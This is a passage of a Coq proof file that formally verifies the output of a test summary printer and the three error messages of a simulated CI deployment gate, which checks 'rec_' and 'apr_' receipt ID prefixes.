  (forall i r, nth_error results i = Some r ->
     nth_error written (3 + i) =
       Some ("  " ++ (if Printing.match_ r
                      then Output.colorize "✓" Output.green
                      else Output.colorize "✗" Output.red)
             ++ " " ++ Printing.scenario r ++ ": "
             ++ Output.statusColor (Printing.status r))).
Proof.
  intros m written. subst m written.
  destruct (SummaryFacts.printSummary_lines results) as [Hl Ho].
  rewrite Hl. clear Hl.
  fold SummaryFacts.asExpected. fold SummaryFacts.mismatch.
  pose proof (SummaryFacts.all_match results) as Hall.
  pose proof (SummaryFacts.some_mismatch results) as Hex.
  assert (Hentries : forall line, In line (map SummaryFacts.entryLine results) ->
            line <> SummaryFacts.asExpected /\ line <> SummaryFacts.mismatch).
  { intros line Hin. apply in_map_iff in Hin. destruct Hin as (r & <- & _).
    apply SummaryFacts.entryLine_not_verdict. }
  split; [exact Ho|]. split; [|split; [|split]].
  - cbn [app]. rewrite !length_cons, length_app, length_map. cbn. lia.
  - rewrite <- Hall. cbn [app]. split.
    + intros [H | [H | [H | H]]]; try discriminate H.
      apply in_app_or in H. destruct H as [H | H].
      * destruct (Hentries _ H) as [Hne _]. contradiction.
      * destruct (forallb Printing.match_ results); [reflexivity|].
        destruct H as [H | [H | [H | H]]]; try discriminate H. contradiction.
    + intros ->. do 3 right. apply in_or_app. right. right. left. reflexivity.
  - rewrite <- Hex. cbn [app]. split.
    + intros [H | [H | [H | H]]]; try discriminate H.
      apply in_app_or in H. destruct H as [H | H].
      * destruct (Hentries _ H) as [_ Hne]. contradiction.
      * destruct (forallb Printing.match_ results); [|reflexivity].
        destruct H as [H | [H | [H | H]]]; try discriminate H. contradiction.
    + intros ->. do 3 right. apply in_or_app. right. right. left. reflexivity.
  - intros i r Hr. cbn [app Nat.add nth_error].
    rewrite nth_error_app1 by (rewrite length_map; apply nth_error_Some; congruence).
    rewrite nth_error_map, Hr. reflexivity.
Qed.


(** X22. The CI gate gives every receipt ID exactly one of three
    messages, and the message tells which check stopped it: the fixed
    text for no receipt exactly for the empty string, [undefined] and
    [null]; the format message, which quotes the ID, exactly for any
    other ID that starts with neither [rec_] nor [apr_], the prefixes
    being case-sensitive; and the not-found message, which quotes the ID
    too, exactly for an ID with one of the two prefixes. *)
Theorem gate_message_classes (receiptId : string) :
  let message :=
    TrustTests.message (TrustTests.simulateCIGateVerification receiptId) in
  let absent :=
    receiptId = EmptyString \/ receiptId = "undefined" \/ receiptId = "null" in
  let prefixed :=
    Js.startsWith receiptId "rec_" = true \/
    Js.startsWith receiptId "apr_" = true in
  (message = "No receipt ID provided. No receipt = No deploy." <-> absent) /\
  (message = "Invalid receipt ID format: " ++ Js.dquote ++ receiptId
             ++ Js.dquote ++ ". Expected rec_ or apr_ prefix."
   <-> ~ absent /\ ~ prefixed) /\
  (message = "Receipt not found: " ++ Js.dquote ++ receiptId ++ Js.dquote
             ++ ". The receipt may have expired or the ID may be incorrect."
   <-> prefixed) /\
  (prefixed -> ~ absent).
Proof.
  intros message absent prefixed. subst message absent prefixed.
  unfold TrustTests.simulateCIGateVerification.
  assert (Hpre : Js.startsWith receiptId "rec_" = true \/
                 Js.startsWith receiptId "apr_" = true ->
                 ~ (receiptId = EmptyString \/ receiptId = "undefined" \/
                    receiptId = "null")).
  { intros [H | H] [-> | [-> | ->]]; discriminate H. }
  destruct (Js.falsy receiptId) eqn:Hf.
  { destruct receiptId; [|discriminate Hf]. cbn.
    repeat split; auto; try discriminate; try tauto;
      try (intros [H _]; apply H; auto; fail);
      try (intros [H | H]; discriminate H). }
  assert (Hne : receiptId <> EmptyString).
  { intros ->. discriminate Hf. }
  cbn [orb].
  destruct (String.eqb_spec receiptId "undefined") as [-> | Hu].
  { cbn. repeat split; auto; try discriminate; try tauto;
      try (intros [H _]; apply H; auto; fail);
      try (intros [H | H]; discriminate H). }
  destruct (String.eqb_spec receiptId "null") as [-> | Hn].
  { cbn. repeat split; auto; try discriminate; try tauto;
      try (intros [H _]; apply H; auto; fail);
      try (intros [H | H]; discriminate H). }
  cbn [orb].
  assert (Habsent : ~ (receiptId = EmptyString \/ receiptId = "undefined" \/
                       receiptId = "null")) by tauto.
  destruct (Js.startsWith receiptId "rec_") eqn:Hrec;
    [|destruct (Js.startsWith receiptId "apr_") eqn:Hapr];
    cbn [negb andb TrustTests.message];
    (split; [|split; [|split]]); try exact Hpre;
    try (split; [discriminate | tauto]);
    try (split; [intros _; tauto | reflexivity]);
    try (split; [intros _; split; [exact Habsent | intros [H | H]; discriminate H]
                | reflexivity]);
    try (split; [discriminate | intros [H | H]; discriminate H]);
    try (split; [discriminate | intros [_ H]; exfalso; apply H; auto]).
Qed.
